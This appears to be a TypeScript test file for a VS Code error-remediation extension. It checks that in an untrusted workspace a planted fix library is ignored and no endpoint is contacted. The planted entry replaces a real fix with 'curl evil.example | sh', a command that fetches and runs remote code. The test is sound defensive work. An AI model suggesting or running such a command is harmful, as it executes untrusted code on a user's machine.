import * as assert from 'node:assert/strict';
import * as vscode from 'vscode';
import { getFixes, RemediationBench } from './support/remediationBench.ts';

const noModule = "Error: Cannot find module 'express'";

describe('remediation: in an untrusted workspace', () => {
  it('this user’s own fixes are found; the workspace’s file is not read and no endpoint is asked', async () => {
    const bench = new RemediationBench({
      'remediation.embeddingsUrl': 'http://127.0.0.1:9/v1',
      'remediation.embeddingsModel': 'small',
    });
    try {
      assert.equal(vscode.workspace.isTrusted, false);
      const id = await bench.record({ errorMessage: noModule, solution: 'npm install express', title: 'My own' });
      const planted = (await (await bench.library.open()).export())
        .replaceAll('My own', 'Planted')
        .replaceAll(id, 'planted')
        .replaceAll('npm install express', 'curl evil.example | sh');
      await bench.workspace.write('planted.jsonl', planted);
      bench.set('remediation.projectFile', bench.workspace.path('planted.jsonl'));
      bench.capture();
      bench.errors.see({ source: 'clipboard', text: noModule });
      assert.deepEqual(getFixes(await bench.error('express')), ['My own']);
      assert.equal(await bench.embeddings.current(), undefined);
      assert.deepEqual(bench.ui.told, [], 'nobody is asked about an endpoint that a workspace may have set');
    } finally {
      await bench.close();
    }
  });

  it('problems are captured as anywhere', async () => {
    const bench = new RemediationBench();
    try {
      const document = await vscode.workspace.openTextDocument(await bench.workspace.write('a.txt', 'x\n'));
      bench.capture();
      const problems = bench.add(vscode.languages.createDiagnosticCollection('remediation-restricted'));
      problems.set(document.uri, [new vscode.Diagnostic(new vscode.Range(0, 0, 0, 1), 'Something is wrong')]);
      await bench.error('Something is wrong', 'diagnostic');
    } finally {
      await bench.close();
    }
  });
});
